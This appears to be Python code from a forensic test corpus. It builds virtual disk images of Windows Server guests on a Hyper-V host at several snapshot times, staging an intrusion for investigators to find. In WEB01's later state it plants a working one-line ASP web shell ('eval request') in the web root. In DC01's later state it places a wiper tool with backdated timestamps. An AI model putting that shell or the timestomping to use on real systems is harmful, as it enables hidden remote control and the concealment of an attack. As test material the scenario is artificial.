"""The guests of ws2008: what is inside each virtual disk, at each moment that was kept."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

from corpus.make import hive, windows
from corpus.make.guest import (
    GuestDisk,
    State,
    guest_services,
    install,
    plain_hives,
    table,
    write_hives,
)
from corpus.make.times import Stamp, born, ticks
from corpus.make.windows import GMT, W_EUROPE, TimeZone, Windows, log

HOST = "HV-BERLIN01"
_2003 = "Microsoft Windows Server 2003 R2"
_2008 = "Windows Server (R) 2008 Standard"


def _old(name: str, installed: str, last: str, disk: GuestDisk, zone: TimeZone) -> Windows:
    """A Server 2003 SP2 guest."""
    return Windows(
        host_name=name,
        domain="corp.example",
        product=_2003,
        version="5.2",
        build="3790",
        service_pack="Service Pack 2",
        installed=ticks(installed),
        last_written=ticks(last),
        build_lab="3790.srv03_sp2_rtm.070216-1710",
        root="WINDOWS",
        zone=zone,
        services=guest_services("5.2"),
        mounted={"\\DosDevices\\C:": (disk.signature, disk.start * 512)},
        guest_of=(HOST, name),
    )


def domain_controller(scratch: Path) -> Mapping[str, State]:
    """DC01: states S1, S2, S3, now, and the branch S1b off S1."""
    disk = GuestDisk(scratch, "DC01", megabytes=40, start=63, made=ticks("2009-06-05 09:31:04"))
    inside = _old("DC01", "2009-06-05 09:52:17", "2009-07-14 20:58:41", disk, W_EUROPE)
    with disk.volume.changing() as tree:
        install(tree, inside)
        write_hives(tree, inside, plain_hives(inside), first=inside.installed)
        tree.write("/Data/users.csv", table("user", 900, 1), _at("2009-06-08 08:02:11"))
        tree.write("/Data/users-old.csv", table("user", 500, 0), _at("2009-06-08 08:01:40"))
        todo = b"call the vendor about the patch\r\n"
        tree.write("/Data/todo.txt", todo, _at("2009-07-14 17:20:09"))
        ntds = table("ntds", 6000, 1)
        tree.write(
            "/WINDOWS/NTDS/ntds.dit", ntds, _at("2009-06-05 12:10:30", "2009-07-14 20:40:00")
        )
    states = {"S1": disk.state(inside)}
    branch = disk.fork("branch")
    states["S2"] = _dc_patched(disk, inside)
    states["S3"] = _dc_september(disk, inside)
    states["now"] = _dc_november(disk, inside)
    states["S1b"] = _dc_branch(branch, inside)
    return states


def _dc_patched(disk: GuestDisk, before: Windows) -> State:
    inside = replace(before, last_written=ticks("2009-07-15 07:31:55"))
    software = windows.software_tree(inside)
    hotfix = "Microsoft\\Windows NT\\CurrentVersion\\HotFix\\KB958644"
    software.key(hotfix, ticks("2009-07-14 21:30:12")).set(hive.dword("Installed", 1))
    with disk.volume.changing() as tree:
        lines = [f"{step}: copied file {step}" for step in range(900)]
        tree.write("/WINDOWS/KB958644.log", log("KB958644", lines), _at("2009-07-14 21:29:58"))
        patched = windows.program("netapi32.dll", "5.2.3790.4392", 10000)
        stamp = born(ticks("2009-07-14 21:30:01"), ticks("2008-10-15 16:35:00"), key="netapi32")
        tree.write("/WINDOWS/system32/netapi32.dll", patched, stamp)
        tree.delete("/Data/todo.txt")
        hives = windows.hives(inside, windows.system_tree(inside), software)
        write_hives(tree, inside, hives, first=inside.installed)
    return disk.state(inside)


def _dc_september(disk: GuestDisk, before: Windows) -> State:
    inside = replace(before, last_written=ticks("2009-09-02 19:40:06"))
    with disk.volume.changing() as tree:
        tree.write("/Data/payroll.csv", table("salary", 3000, 1), _at("2009-08-20 10:00:17"))
        stamp = _at("2009-06-08 08:02:11", "2009-08-31 16:44:20")
        tree.write("/Data/users.csv", table("user", 900, 2), stamp)
        tree.delete("/Data/users-old.csv")
        ntds = table("ntds", 6000, 2)
        tree.write(
            "/WINDOWS/NTDS/ntds.dit", ntds, _at("2009-06-05 12:10:30", "2009-09-02 19:33:00")
        )
        write_hives(tree, inside, plain_hives(inside), first=inside.installed)
    return disk.state(inside)


def _dc_november(disk: GuestDisk, before: Windows) -> State:
    inside = replace(before, last_written=ticks("2009-11-20 18:04:32"))
    desktop = "/Documents and Settings/Administrator/Desktop"
    with disk.volume.changing() as tree:
        tree.delete("/Data/payroll.csv")
        zone = {"Zone.Identifier": b"[ZoneTransfer]\r\nZoneId=3\r\n"}
        text = b"wipe the share before Friday\r\n" * 40
        tree.write(f"{desktop}/readme.txt", text, _at("2009-11-19 22:51:03"), streams=zone)
        tool = windows.program("wiper.exe", "1.0", 21000)
        real, shown = born(ticks("2009-11-19 22:55:47"), key="wiper"), ticks("2005-03-24 12:00:00")
        false = Stamp(shown, shown, shown, shown, *real.fn)
        tree.write("/WINDOWS/system32/wiper.exe", tool, false)
        stamp = _at("2009-06-08 08:02:11", "2009-11-20 09:12:00")
        tree.write("/Data/users.csv", table("user", 950, 3), stamp)
        write_hives(tree, inside, plain_hives(inside), first=inside.installed)
    return disk.state(inside)


def _dc_branch(disk: GuestDisk, before: Windows) -> State:
    inside = replace(before, last_written=ticks("2009-07-16 18:11:20"))
    with disk.volume.changing() as tree:
        lines = [f"{step}: checked {step}" for step in range(300)]
        tree.write("/WINDOWS/KB957097.log", log("KB957097", lines), _at("2009-07-16 10:03:29"))
        stamp = _at("2009-06-08 08:02:11", "2009-07-16 11:15:00")
        tree.write("/Data/users.csv", table("user", 900, 4), stamp)
        write_hives(tree, inside, plain_hives(inside), first=inside.installed)
    return disk.state(inside)


def web_server(scratch: Path) -> Mapping[str, tuple[State, State]]:
    """WEB01: (system disk, data disk) at the snapshot "Release 1.0" and now."""
    disk = GuestDisk(
        scratch,
        "WEB01",
        megabytes=48,
        start=2048,
        made=ticks("2009-06-22 13:02:50"),
        label="System",
    )
    data = GuestDisk(
        scratch,
        "WEB01-data",
        megabytes=32,
        start=63,
        made=ticks("2009-06-22 15:40:12"),
        label="Data",
    )
    inside = Windows(
        host_name="WEB01",
        domain="corp.example",
        product=_2008,
        version="6.0",
        build="6002",
        service_pack="Service Pack 2",
        installed=ticks("2009-06-22 13:20:44"),
        last_written=ticks("2009-10-05 06:12:10"),
        edition="ServerStandard",
        build_lab="6002.18005.amd64fre.lh_sp2rtm.090410-1830",
        zone=GMT,
        services=guest_services("6.0"),
        mounted={
            "\\DosDevices\\C:": (disk.signature, disk.start * 512),
            "\\DosDevices\\D:": (data.signature, data.start * 512),
        },
        guest_of=(HOST, "WEB01"),
    )
    with disk.volume.changing() as tree:
        install(tree, inside)
        write_hives(tree, inside, plain_hives(inside), first=inside.installed)
        tree.write("/inetpub/wwwroot/index.html", b"<h1>1.0</h1>\n", _at("2009-10-04 11:00:02"))
    with data.volume.changing() as tree:
        tree.write("/shop/orders.csv", table("order", 4000, 1), _at("2009-07-01 07:00:40"))
        tree.write("/logs/ex091004.log", table("hit", 5000, 1), _at("2009-10-04 00:00:03"))
    first = disk.state(inside), data.state(None)
    later = replace(inside, last_written=ticks("2009-11-20 17:55:18"))
    with disk.volume.changing() as tree:
        tree.write("/inetpub/wwwroot/index.html", b"<h1>1.1</h1>\n", _at("2009-11-02 09:30:00"))
        tree.write(
            "/inetpub/wwwroot/shell.asp", b"<% eval request(1) %>", _at("2009-11-18 02:14:55")
        )
        write_hives(tree, later, plain_hives(later), first=inside.installed)
    with data.volume.changing() as tree:
        stamp = _at("2009-07-01 07:00:40", "2009-11-20 16:20:00")
        tree.write("/shop/orders.csv", table("order", 4300, 2), stamp)
        tree.delete("/logs/ex091004.log")
        tree.write("/logs/ex091119.log", table("hit", 2000, 2), _at("2009-11-19 00:00:02"))
    return {"S1": first, "now": (disk.state(later), data.state(None))}


def database(scratch: Path) -> State:
    """SQL01: a fixed disk made by Virtual Server 2005, taken over by Hyper-V in 2009."""
    disk = GuestDisk(scratch, "SQL01", megabytes=32, start=63, made=ticks("2007-03-19 08:14:00"))
    inside = _old("SQL01", "2007-03-19 08:40:51", "2009-11-20 17:20:33", disk, W_EUROPE)
    with disk.volume.changing() as tree:
        install(tree, inside)
        write_hives(tree, inside, plain_hives(inside), first=inside.installed)
        stamp = _at("2007-03-20 09:00:00", "2009-11-20 17:25:41")
        tree.write("/MSSQL/Data/crm.mdf", table("crm", 30000, 1), stamp)
    return disk.state(inside)


def old_application(scratch: Path) -> State:
    """OLDAPP: the machine whose configuration was deleted."""
    disk = GuestDisk(scratch, "OLDAPP", megabytes=32, start=63, made=ticks("2009-06-18 10:00:31"))
    inside = _old("OLDAPP", "2009-06-18 10:21:09", "2009-10-29 16:40:45", disk, GMT)
    with disk.volume.changing() as tree:
        install(tree, inside)
        write_hives(tree, inside, plain_hives(inside), first=inside.installed)
        tree.write("/App/ledger.dat", table("ledger", 2000, 1), _at("2009-06-19 09:00:12"))
    return disk.state(inside)


def orphan_child(scratch: Path) -> tuple[State, State]:
    """TEST02: the template's disk (which is not in the evidence) and the machine's own state."""
    disk = GuestDisk(scratch, "TEST02", megabytes=32, start=63, made=ticks("2008-12-01 09:00:00"))
    template = _old("W2K3-BASE", "2008-12-01 09:24:36", "2008-12-01 16:00:00", disk, W_EUROPE)
    with disk.volume.changing() as tree:
        install(tree, template)
        write_hives(tree, template, plain_hives(template), first=template.installed)
    base = disk.state(template)
    inside = _old("TEST02", "2008-12-01 09:24:36", "2009-11-12 12:12:12", disk, W_EUROPE)
    with disk.volume.changing() as tree:
        write_hives(tree, inside, plain_hives(inside), first=inside.installed)
        tree.write("/Test/result.csv", table("test", 1500, 1), _at("2009-10-13 14:00:00"))
    return base, disk.state(inside)


def _at(created: str, modified: str | None = None) -> Stamp:
    return born(ticks(created), None if modified is None else ticks(modified), key=created)
